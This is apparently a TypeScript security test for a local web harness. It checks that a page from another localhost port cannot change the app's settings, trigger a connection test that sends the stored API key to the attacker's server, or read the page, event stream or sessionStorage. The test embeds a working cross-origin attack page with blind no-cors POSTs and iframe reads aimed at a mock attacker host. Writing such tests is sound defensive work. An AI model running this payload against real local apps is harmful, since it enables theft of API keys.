/**
 * A web page of another origin on this computer (another port of 127.0.0.1: the same site, for the
 * browser's cookies) tries to drive the web harness while the app is open in the same browser:
 * point the settings at its own server, then have the app test the connection, which would send it
 * the stored API key. Every attempt must fail, and the key must never reach it.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchApp, type App } from './helpers';
import { bridgeCall } from '../integration/web/helpers';

const KEY = 'pc_live_Xy7KqP2mN8vR4tW1zL5sD9fG3hJ6cB0a';

let app: App;
let attacker: Server;
let attackerOrigin: string;
const seen: Array<{ method: string; url: string; headers: Record<string, unknown>; body: string }> = [];
let report: ((r: Record<string, string>) => void) | null = null;

/** The attacker's page: it knows the harness's port (ports are easy to scan), not its token. */
function attackPage(target: string, own: string): string {
  return `<!doctype html><meta charset="utf-8"><title>Totally unrelated</title><script>
(async () => {
  const target = ${JSON.stringify(target)};
  const out = {};
  const body = (input) => JSON.stringify({ input });
  const blind = (name, input) =>
    fetch(target + '/api/call/' + name, { method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'content-type': 'text/plain' }, body: body(input) }).then(() => 'sent', (e) => 'error ' + e.message);
  out.setSettings = await blind('setSettings', { environment: 'custom', customBaseUrl: ${JSON.stringify(own + '/v1')} });
  out.testConnection = await blind('testConnection', undefined);
  out.guessedToken = await fetch(target + '/api/call/getSettings', { method: 'POST', credentials: 'include',
      headers: { 'x-importer-token': 'guess' }, body: body(undefined) }).then((r) => 'status ' + r.status, () => 'blocked');
  out.events = await fetch(target + '/api/events', { credentials: 'include' }).then((r) => 'status ' + r.status, () => 'blocked');
  out.readPage = await fetch(target + '/', { credentials: 'include' }).then((r) => r.text(), () => 'blocked');
  out.frame = await new Promise((done) => {
    const f = document.createElement('iframe');
    f.src = target + '/';
    f.onload = () => { try { done('read ' + f.contentWindow.sessionStorage.length); } catch { done('blocked'); } };
    setTimeout(() => done('blocked'), 3000);
    document.body.appendChild(f);
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();
</script>`;
}

beforeAll(async () => {
  app = await launchApp();
  // The user works in Production with a key stored.
  await bridgeCall(app.harness, 'setSettings', { environment: 'production' });
  await bridgeCall(app.harness, 'setApiKey', { apiKey: KEY });
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/report') {
        report?.(JSON.parse(body) as Record<string, string>);
        res.end('ok');
      } else if (req.url === '/attack.html') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(attackPage(`http://127.0.0.1:${app.harness.port}`, attackerOrigin));
      } else {
        // Whatever the app might send here as the "custom server".
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end('{"data":[],"has_more":false}');
      }
    });
  });
  await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', () => ok()));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await app?.close();
  await new Promise((ok) => attacker?.close(ok));
});

describe('the web harness against a page of another origin', () => {
  it('keeps the token out of the address and out of reach of other pages', async () => {
    expect(app.page.url()).not.toContain(app.harness.token);
  });

  it('refuses every call the other page makes, and the key never reaches it', async () => {
    const results = new Promise<Record<string, string>>((ok) => (report = ok));
    const evil = await app.page.context().newPage();
    await evil.goto(`${attackerOrigin}/attack.html`);
    const out = await results;
    await evil.close();

    // The settings are as the user left them: Production, no custom server.
    const settings = await bridgeCall(app.harness, 'getSettings');
    expect(settings).toMatchObject({ environment: 'production', customBaseUrl: '', hasApiKey: true });
    // Nothing reached the attacker but its own page and its report: no API call, no key.
    expect(
      seen
        .map((r) => r.url)
        .filter((u) => u !== '/favicon.ico')
        .sort(),
    ).toEqual(['/attack.html', '/report']);
    for (const r of seen) expect(JSON.stringify(r)).not.toContain(KEY);
    // Reading the app's page, or its storage through a frame, is blocked by the browser.
    expect(out['readPage']).toBe('blocked');
    expect(out['frame']).toBe('blocked');
    expect(out['guessedToken']).toBe('blocked');
    expect(out['events']).toBe('blocked');
  });

  it('still serves its own page: after a reload the app works with the token it kept', async () => {
    await app.page.reload();
    await app.page.getByRole('heading', { name: 'Create broadcast projects from a spreadsheet' }).waitFor();
    // The settings came through the bridge: the token survived the reload in sessionStorage.
    await app.page.getByRole('button', { name: /Production/ }).waitFor();
    expect(app.page.url()).not.toContain('token');
    await app.page.getByRole('button', { name: 'Open example' }).click();
    await app.page.getByText('The example is made for the Sandbox account.').waitFor();
    await app.page
      .getByRole('grid')
      .or(app.page.getByRole('heading', { name: 'Check the columns' }))
      .first()
      .waitFor();
    expect(app.errors).toEqual([]);
  });
});
